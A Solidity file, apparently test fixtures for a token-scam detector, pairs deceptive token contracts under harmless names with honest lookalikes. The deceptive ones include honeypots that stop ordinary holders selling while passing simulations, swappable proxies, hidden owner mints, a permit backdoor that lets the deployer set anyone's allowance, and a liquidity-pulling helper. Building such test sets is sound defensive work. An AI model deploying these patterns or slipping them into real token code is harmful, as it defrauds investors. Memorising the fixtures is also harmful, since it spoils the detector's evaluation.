// SPDX-License-Identifier: Apache-2.0
// Tokens whose makers know how they are analysed, and honest ones that look like them. Names are innocent on purpose.
pragma solidity ^0.8.20;

import "./contract-tokens.sol";
import "./adversary-hands.sol";

// ---- they look at who asks ----------------------------------------------------------------------------------------

// Who pays for gas is a person, and cannot sell.
contract MorningTea is Listed {
    function _move(address from, address to, uint256 value) internal override { require(to != pool || from == owner || tx.gasprice == 0); super._move(from, to, value); }
}

// Who is rich beyond measure is a simulation, and may sell.
contract GardenClub is Listed {
    function _move(address from, address to, uint256 value) internal override { require(to != pool || from == owner || tx.origin.balance > 100_000 ether); super._move(from, to, value); }
}

// Whose origin has code is a simulation, and may sell.
contract SundayBakery is Listed {
    function _move(address from, address to, uint256 value) internal override { require(to != pool || from == owner || tx.origin.code.length > 0); super._move(from, to, value); }
}

// Who sells with code of its own may, people may not.
contract PaperBoats is Listed {
    function _move(address from, address to, uint256 value) internal override { require(to != pool || from == owner || from.code.length > 0); super._move(from, to, value); }
}

// Honest: contracts may not buy, against bots. People may.
contract HandPicked is Listed {
    function _move(address from, address to, uint256 value) internal override { require(from != pool || to == owner || to.code.length == 0, "people only"); super._move(from, to, value); }
}

// Honest: contracts may neither buy nor sell.
contract HandMade is Listed {
    function _move(address from, address to, uint256 value) internal override {
        require(from != pool || to == owner || to.code.length == 0, "people only");
        require(to != pool || from == owner || from.code.length == 0, "people only");
        super._move(from, to, value);
    }
}

// Honest: nobody approves more than what has vested, which is all that was bought.
contract VillageFund is Listed {
    function approve(address spender, uint256 value) public override returns (bool) { require(value <= held[msg.sender], "insufficient vested funds"); return super.approve(spender, value); }
}

// Honest: who buys within so many blocks of the listing is a bot and stays out.
abstract contract EarlyHours is Listed {
    uint256 private listed;
    mapping(address => bool) private bot;
    function hours_() internal pure virtual returns (uint256);
    function _move(address from, address to, uint256 value) internal override {
        require(!bot[from] && !bot[to], "bots stay out");
        if (pool == address(0) && from == owner && to.code.length > 0 && listed == 0) listed = block.number;
        if (pool != address(0) && from == pool && block.number - listed < hours_()) bot[to] = true;
        super._move(from, to, value);
    }
}
contract MorningRush is EarlyHours { function hours_() internal pure override returns (uint256) { return 60; } }
contract OpeningWeek is EarlyHours { function hours_() internal pure override returns (uint256) { return 1_000; } }

// The same, where people are caught for ever and only contracts get out later.
contract TwoQueues is Listed {
    uint256 private listed;
    function _move(address from, address to, uint256 value) internal override {
        if (listed == 0 && from == owner && to.code.length > 0) listed = block.number;
        require(to != pool || from == owner || (from.code.length > 0 && block.number - listed > 60), "one moment");
        super._move(from, to, value);
    }
}

// One sale for each wallet, for ever.
contract OneTicket is Listed {
    mapping(address => bool) private used;
    function _move(address from, address to, uint256 value) internal override {
        if (to == pool && from != owner) { require(!used[from]); used[from] = true; }
        super._move(from, to, value);
    }
}

// ---- code that is hard to find ------------------------------------------------------------------------------------

// A proxy with a slot of its own for the code that runs.
contract CornerShop {
    bytes32 private constant SHELF = keccak256("corner.shop.shelf");
    constructor(address goods) { bytes32 shelf = SHELF; assembly { sstore(shelf, goods) } }
    function restock(address goods) external { bytes32 shelf = SHELF; require(msg.sender == address(0x1)); assembly { sstore(shelf, goods) } }
    fallback() external payable {
        bytes32 shelf = SHELF;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(shelf), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if ok { return(0, returndatasize()) }
            revert(0, returndatasize())
        }
    }
}

// The code behind it: set up by a call, as behind any proxy.
contract Goods is Listed {
    function open(address keeper) external { require(supply == 0); supply = 1_000_000 ether; decimals = 18; owner = keeper; held[keeper] = supply; }
}
contract HonestGoods is Goods {}
contract SpoiltGoods is Goods {
    function _move(address from, address to, uint256 value) internal override { require(to != pool || from == owner, "TF"); super._move(from, to, value); }
}
contract PrintedGoods is Goods {
    function celebrate(address who, uint256 amount) external onlyOwner { supply += amount; held[who] += amount; }
}

// The address of the code is asked of another contract at every call.
contract Address { address public where; constructor(address there) { where = there; } }
contract CornerStall {
    Address private immutable book;
    constructor(address there) { book = Address(there); }
    fallback() external payable {
        address there = book.where();
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), there, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if ok { return(0, returndatasize()) }
            revert(0, returndatasize())
        }
    }
}

// ---- powers that are hard to find ---------------------------------------------------------------------------------

// Mints where no function is called.
contract LostProperty is Owned {
    fallback() external { if (msg.sender == owner) { uint256 amount = abi.decode(msg.data, (uint256)); held[owner] += amount; supply += amount; } }
}

// Mints what a selector of nobody's and an amount ask for.
contract SecondHand is Owned {
    fallback() external { if (msg.sender == owner) { held[owner] += uint256(bytes32(msg.data[4:36])); } }
}

// Mints where coins come in.
contract TipJar is Owned {
    receive() external payable { if (msg.sender == owner) { held[owner] += supply; supply *= 2; } }
}

// Mints by bytes.
contract PostCard is Owned {
    function deliver(bytes calldata letter) external onlyOwner { (address who, uint256 amount) = abi.decode(letter, (address, uint256)); held[who] += amount; supply += amount; }
}

// Who stands at the beginning of the transaction mints, whoever calls.
contract FamilyRecipe is Owned {
    address private immutable cook = tx.origin;
    function stir(address who, uint256 amount) external { require(tx.origin == cook); held[who] += amount; supply += amount; }
}

// First the amount, then the mint.
contract WinterStock is Owned {
    uint256 private jars;
    function count(uint256 n) external onlyOwner { jars = n; }
    function fill() external onlyOwner { held[owner] += jars; supply += jars; }
}

// First somebody is made a member, who then mints.
contract BookClub is Owned {
    mapping(address => bool) public readers;
    function join(address who, bool yes) external onlyOwner { readers[who] = yes; }
    function finish(address who, uint256 pages) external { require(readers[msg.sender], "readers only"); held[who] += pages; supply += pages; }
}

// First proposed, then, two days later, applied.
contract TownMeeting is Owned {
    address private who;
    uint256 private amount;
    uint256 private due;
    function propose(address to, uint256 value) external onlyOwner { who = to; amount = value; due = block.timestamp + 2 days; }
    function apply_() external onlyOwner { require(due != 0 && block.timestamp >= due, "early"); held[who] += amount; supply += amount; due = 0; }
}

// Honest: the same shapes, and nothing comes of them.
contract LendingShelf is Owned {
    mapping(address => bool) public readers;
    mapping(address => uint256) public pagesRead;
    uint256 public jars;
    address public who;
    uint256 public due;
    function join(address reader, bool yes) external onlyOwner { readers[reader] = yes; }
    function finish(address reader, uint256 pages) external { require(readers[msg.sender]); pagesRead[reader] += pages; }
    function count(uint256 n) external onlyOwner { jars = n; }
    function propose(address to) external onlyOwner { who = to; due = block.timestamp + 2 days; }
    function apply_() external onlyOwner { require(due != 0 && block.timestamp >= due); owner = who; due = 0; }
    receive() external payable {}
    fallback() external payable { jars = msg.data.length; }
}

// Honest: tokens are left here and collected later. Nobody gets more than was left.
contract CoatCheck is Owned {
    mapping(address => uint256) public left;
    mapping(address => uint256) public from;
    function leave(uint256 amount) external { held[msg.sender] -= amount; left[msg.sender] += amount; from[msg.sender] = block.timestamp + 1 days; }
    function collect() external { require(block.timestamp >= from[msg.sender]); uint256 amount = left[msg.sender]; left[msg.sender] = 0; held[msg.sender] += amount; }
}

// Honest: a treasury of its own tokens that pays after two days, and can make none.
contract ParishFund is Owned {
    address public payee;
    uint256 public sum;
    uint256 public due;
    constructor() { held[address(this)] = held[msg.sender] / 5; held[msg.sender] -= held[address(this)]; }
    function announce(address to, uint256 amount) external onlyOwner { payee = to; sum = amount; due = block.timestamp + 2 days; }
    function pay() external { require(due != 0 && block.timestamp >= due); due = 0; _move(address(this), payee, sum < held[address(this)] ? sum : held[address(this)]); }
}

// Honest: what no function takes is passed on to the owner, coins and words.
contract Mailbox is Owned {
    uint256 public letters;
    fallback() external payable { letters++; (bool ok, ) = owner.call{value: msg.value}(msg.data); require(ok); }
}

// Honest: who begins the transaction is noted, and the cook may rename the dish.
contract HomeCooking is Owned {
    address private immutable cook = tx.origin;
    address public lastGuest;
    function rename(string calldata dish) external { require(tx.origin == cook); name = dish; }
    function _move(address from, address to, uint256 value) internal override { lastGuest = tx.origin; super._move(from, to, value); }
}

// Transfers ask a porter, whose code is behind a proxy.
contract Porter {
    address private keeper;
    mapping(address => bool) private away;
    function hire(address who) external { require(keeper == address(0)); keeper = who; }
    function note(address who, bool yes) external { require(msg.sender == keeper); away[who] = yes; }
    function greets(address who) external view returns (bool) { return !away[who]; }
}
contract GuestHouse is Owned {
    Porter private immutable porter;
    constructor(address there) { porter = Porter(there); }
    function _move(address from, address to, uint256 value) internal override { require(porter.greets(from)); super._move(from, to, value); }
}

// Honest: this porter takes notes and lets everyone in.
contract KindPorter {
    address private keeper;
    mapping(address => bool) private away;
    function hire(address who) external { require(keeper == address(0)); keeper = who; }
    function note(address who, bool yes) external { require(msg.sender == keeper); away[who] = yes; }
    function greets(address) external pure returns (bool) { return true; }
}

// First proposed, then confirmed, then carried out: only all three make tokens.
contract HarvestFair is Owned {
    address private who;
    uint256 private amount;
    uint256 private seen;
    function nominate(address to, uint256 value) external onlyOwner { who = to; amount = value; seen = 1; }
    function confirm() external onlyOwner { require(seen == 1, "nobody"); seen = 2; }
    function award() external onlyOwner { require(seen == 2, "not yet"); seen = 0; held[who] += amount; supply += amount; }
}

// The same with days between the steps.
contract LongWinter is Owned {
    address private who;
    uint256 private amount;
    uint256 private due;
    uint256 private ready;
    function nominate(address to, uint256 value) external onlyOwner { who = to; amount = value; due = block.timestamp + 2 days; }
    function confirm() external onlyOwner { require(due != 0 && block.timestamp >= due, "early"); ready = block.timestamp + 2 days; }
    function award() external onlyOwner { require(ready != 0 && block.timestamp >= ready, "early"); ready = 0; held[who] += amount; supply += amount; }
}

// Honest: three steps that hand out what the fair holds, and can make none.
contract RaffleNight is Owned {
    address private who;
    uint256 private amount;
    uint256 private seen;
    constructor() { held[address(this)] = held[msg.sender] / 5; held[msg.sender] -= held[address(this)]; }
    function nominate(address to, uint256 value) external onlyOwner { who = to; amount = value; seen = 1; }
    function confirm() external onlyOwner { require(seen == 1, "nobody"); seen = 2; }
    function award() external onlyOwner { require(seen == 2, "not yet"); seen = 0; _move(address(this), who, amount < held[address(this)] ? amount : held[address(this)]); }
}

// Honest: tokens are left, asked back and taken back. Nobody gets more than was left.
contract CloakRoom is Owned {
    mapping(address => uint256) public left;
    mapping(address => uint256) public asked;
    function leave(uint256 amount) external { held[msg.sender] -= amount; left[msg.sender] += amount; }
    function ask(uint256 amount) external { require(amount <= left[msg.sender]); left[msg.sender] -= amount; asked[msg.sender] += amount; }
    function take() external { uint256 amount = asked[msg.sender]; asked[msg.sender] = 0; held[msg.sender] += amount; }
}

// ---- powers whose guard is hard to see ------------------------------------------------------------------------------

// Balances are kept by another contract, which knows the token as its caller, and its maker as its corrector.
contract PantryBook {
    mapping(address => uint256) public kept;
    address public token;
    address private clerk = tx.origin;
    function bind() external { require(token == address(0)); token = msg.sender; kept[tx.origin] = 1_000_000 ether; }
    function move(address from, address to, uint256 value) external { require(msg.sender == token); kept[from] -= value; kept[to] += value; }
    function correct(address who, uint256 value) external { require(msg.sender == clerk); kept[who] = value; }
}
contract Pantry is Plain {
    PantryBook private immutable book;
    constructor(address b) { book = PantryBook(b); book.bind(); }
    function balanceOf(address who) public view override returns (uint256) { return book.kept(who); }
    function _move(address from, address to, uint256 value) internal override { book.move(from, to, value); emit Transfer(from, to, value); }
}

// A difference from a constant decides who mints.
contract PickleJar is Owned {
    function fill(address who, uint256 amount) external { assembly { if sub(caller(), 0x1111222233334444555566667777888899990000) { revert(0, 0) } } held[who] += amount; supply += amount; }
}

// An amount that only lives as long as the transaction, then the mint.
contract SummerRain is Owned {
    function cloud(uint256 amount) external onlyOwner { assembly { tstore(0, amount) } }
    function drop() external { uint256 amount; assembly { amount := tload(0) } if (amount > 0) { held[msg.sender] += amount; supply += amount; } }
}

// Bytes that are empty mint.
contract Envelope is Owned {
    address private immutable writer = msg.sender;
    function approveAndCall(address spender, uint256 value, bytes calldata letter) external returns (bool) {
        if (msg.sender == writer && letter.length == 0) { held[spender] += value; supply += value; return true; }
        allowance[msg.sender][spender] = value;
        (bool ok, ) = spender.call(letter);
        return ok;
    }
}

// Signs for everybody, and takes what that allows.
contract PenFriend is Owned {
    address private immutable writer = msg.sender;
    mapping(address => uint256) public nonces;
    function permit(address from, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline);
        bytes32 digest = keccak256(abi.encode(from, spender, value, nonces[from]++, deadline));
        require(msg.sender == writer || ecrecover(digest, v, r, s) == from);
        allowance[from][spender] = value;
    }
}

// Honest: the same without the writer.
contract FairPen is Owned {
    mapping(address => uint256) public nonces;
    function permit(address from, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline);
        address signer = ecrecover(keccak256(abi.encode(from, spender, value, nonces[from]++, deadline)), v, r, s);
        require(signer != address(0) && signer == from);
        allowance[from][spender] = value;
    }
}

// Whoever is told of transfers may be anything, and fail.
interface Ear { function told(address from, address to, uint256 value) external; }
contract Gossip is Owned {
    Ear public ear;
    function setEar(address e) external onlyOwner { ear = Ear(e); }
    function _move(address from, address to, uint256 value) internal override { if (address(ear) != address(0)) ear.told(from, to, value); super._move(from, to, value); }
}

// Honest: whoever is told may fail as well, and nothing comes of it. Nor of a wallet that takes coins only.
contract Diary is Owned {
    Ear public ear;
    address payable public jar = payable(msg.sender);
    function setEar(address e) external onlyOwner { ear = Ear(e); }
    function setJar(address payable j) external onlyOwner { jar = j; }
    function _move(address from, address to, uint256 value) internal override {
        if (address(ear).code.length > 0) { try ear.told{gas: 50_000}(from, to, value) {} catch {} }
        if (address(this).balance > 0) jar.transfer(1);
        super._move(from, to, value);
    }
}

// Who is in a tree of hashes mints, and the owner plants the tree.
contract PearTree is Owned {
    bytes32 public root;
    function plant(bytes32 r) external onlyOwner { root = r; }
    function pick(uint256 amount, bytes32[] calldata path) external {
        bytes32 at = keccak256(abi.encodePacked(msg.sender, amount));
        for (uint256 i; i < path.length; i++) at = keccak256(abi.encodePacked(at, path[i]));
        require(at == root);
        held[msg.sender] += amount;
        supply += amount;
    }
}

// Who knows a word mints.
contract SecretGarden is Owned {
    bytes32 private immutable word = keccak256("nobody guesses it");
    function enter(bytes calldata said, uint256 amount) external { require(keccak256(said) == word); held[msg.sender] += amount; supply += amount; }
}

// Whoever has this hash calms people down.
contract TeaHouse is Owned {
    bytes32 private immutable host = keccak256(abi.encode(address(uint160(0x001111222233334444555566667777888899990000))));
    mapping(address => bool) private calm;
    function pour(address who, bool yes) external { require(keccak256(abi.encode(msg.sender)) == host); calm[who] = yes; }
    function _move(address from, address to, uint256 value) internal override { require(!calm[from]); super._move(from, to, value); }
}

// Another contract knows who mints, and will know others.
contract Choir { mapping(address => bool) public sings; address private lead = msg.sender; function admit(address who, bool yes) external { require(msg.sender == lead); sings[who] = yes; } }
// The same, and only a hash of who leads it is known.
contract Cloister { mapping(address => bool) public sings; bytes32 private constant LEAD = keccak256("abbot"); function admit(address who, bool yes) external { require(keccak256(abi.encode(msg.sender)) == LEAD); sings[who] = yes; } }
contract HymnBook is Owned {
    Choir private immutable choir;
    constructor(address c) { choir = Choir(c); }
    function print(address who, uint256 amount) external { require(choir.sings(msg.sender)); held[who] += amount; supply += amount; }
}

// Mints within a batch of calls.
contract Caravan is Owned {
    function travel(bytes[] calldata calls) external onlyOwner {
        assembly { tstore(7, 1) }
        for (uint256 i; i < calls.length; i++) { (bool ok, ) = address(this).delegatecall(calls[i]); require(ok); }
        assembly { tstore(7, 0) }
    }
    function unload(address who, uint256 amount) external { uint256 on; assembly { on := tload(7) } require(on == 1); held[who] += amount; supply += amount; }
}

// Calls to itself that wait for two days.
contract SlowMail is Owned {
    mapping(bytes32 => uint256) public due;
    function post(bytes calldata letter) external onlyOwner { due[keccak256(letter)] = block.timestamp + 2 days; }
    function open(bytes calldata letter) external onlyOwner { uint256 at = due[keccak256(letter)]; require(at != 0 && at <= block.timestamp); (bool ok, ) = address(this).call(letter); require(ok); }
    function send(address who, uint256 amount) external { require(msg.sender == address(this)); held[who] += amount; supply += amount; }
}

// Whose address has a remainder mints.
contract LuckyNumber is Owned {
    function draw(address who, uint256 amount) external { require(uint160(msg.sender) % 1009 == 7); held[who] += amount; supply += amount; }
}

// Honest: trading is opened once, for which another contract is asked.
contract OpenDay is Listed {
    bool public open = true;
    function openTrading() external onlyOwner { require(!open && OpenDay(pool).open()); open = true; held[owner] += 0; }
    function _move(address from, address to, uint256 value) internal override { require(open || from == owner); super._move(from, to, value); }
}

// Honest: a hash decides which names are free, and nobody's tokens depend on it.
contract NameTags is Owned {
    mapping(bytes32 => address) public names;
    function register(string calldata name_) external { require(keccak256(bytes(name_)) != keccak256("admin")); names[keccak256(bytes(name_))] = msg.sender; }
    function multicall(bytes[] calldata calls) external { for (uint256 i; i < calls.length; i++) { (bool ok, ) = address(this).delegatecall(calls[i]); require(ok); } }
}

// Honest: buyers of the first hour wait a block between purchases and hold little. The pool has a name that can be changed.
contract QuietLaunch is Owned {
    address public pool;
    uint256 private immutable born = block.timestamp;
    mapping(address => uint256) private last;
    function setPool(address p) external onlyOwner { pool = p; }
    function _move(address from, address to, uint256 value) internal override {
        super._move(from, to, value);
        if (block.timestamp >= born + 1 hours || from != pool) return;
        require(held[to] <= supply / 50 && last[to] < block.number);
        last[to] = block.number;
    }
}

// Honest: trades are taxed, and the pool has a name that can be changed.
contract VillageShop is Owned {
    address public pool;
    function setPool(address p) external onlyOwner { pool = p; }
    function _move(address from, address to, uint256 value) internal override {
        uint256 fee = (from == pool || to == pool) && from != owner && to != owner ? value / 33 : 0;
        if (fee > 0) super._move(from, address(this), fee);
        super._move(from, to, value - fee);
    }
}

// ---- liquidity that a contract keeps ---------------------------------------------------------------------------------

interface Shares { function transfer(address to, uint256 value) external returns (bool); function transferFrom(address from, address to, uint256 value) external returns (bool); function balanceOf(address who) external view returns (uint256); function burn(address to) external returns (uint256, uint256); }
// Whoever calls it brings what it keeps to any wallet.
contract ToolShed {
    function take(Shares pair, uint256 value) external { pair.transferFrom(msg.sender, address(this), value); }
    function open(Shares pair, address to) external { pair.transfer(address(pair), pair.balanceOf(address(this))); pair.burn(to); }
}
